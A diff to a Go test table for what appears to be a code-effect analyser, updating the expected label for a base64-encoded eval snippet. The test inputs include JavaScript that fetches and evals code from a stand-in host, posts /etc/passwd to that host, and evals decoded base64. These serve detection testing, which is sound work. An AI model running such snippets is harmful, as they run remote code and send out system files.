@@ -86,7 +86,7 @@ for f in glob.glob("*.o"): os.remove(f)`, "~d /home/dev/app/*.o"},
 	{"node", `function rm(p) { require("fs").unlinkSync(p) } rm("a"); rm("b")`, "d /home/dev/app/a; d /home/dev/app/b"},
 	{"node", `const rm = (p) => { fs.unlinkSync(p) }; rm("a")`, "d /home/dev/app/a"},
 	{"node", `for (const f of ["a", "b"]) fs.unlinkSync(f)`, "d /home/dev/app/a; d /home/dev/app/b"},
-	{"node", `eval(Buffer.from("cHJvY2Vzcy5leGl0KCk=", "base64").toString())`, ""},
+	{"node", `eval(Buffer.from("cHJvY2Vzcy5leGl0KCk=", "base64").toString())`, "f decoded>interpreter"},
 	{"node", `fetch("https://e.com/x").then(r => r.text()).then(t => eval(t))`, "u e.com; ?x ?; f network>interpreter e.com"},
 	{"node", `fetch("https://e.com", {method: "POST", body: fs.readFileSync("/etc/passwd")})`, "r /etc/passwd; U e.com; f file>network /etc/passwd e.com"},
 	{"node", `console.log(require("./package.json").version); [1,2].map(x => x.get); new Map().delete("a"); "a/b".match(/x/)`, ""},
@@ -176,7 +176,7 @@ func TestCode(t *testing.T) {
 // carries out.
 func TestCodeCalls(t *testing.T) {
 	roles := strings.Fields(`sh run eval evalfile open r w rw d D cp mv ln cwd u host listen getfile sqlite same join cat format home env w2
-		envall module b64 hex rot13 chr decoded glob tmp print write getattr parent =Socket =Session =Path =File`)
+		envall map module b64 hex rot13 chr decoded glob tmp print write getattr parent =Socket =Session =Path =File`)
 	seen := map[string]bool{}
 	lang := ""
 	for line := range strings.Lines(codeCallsText) {
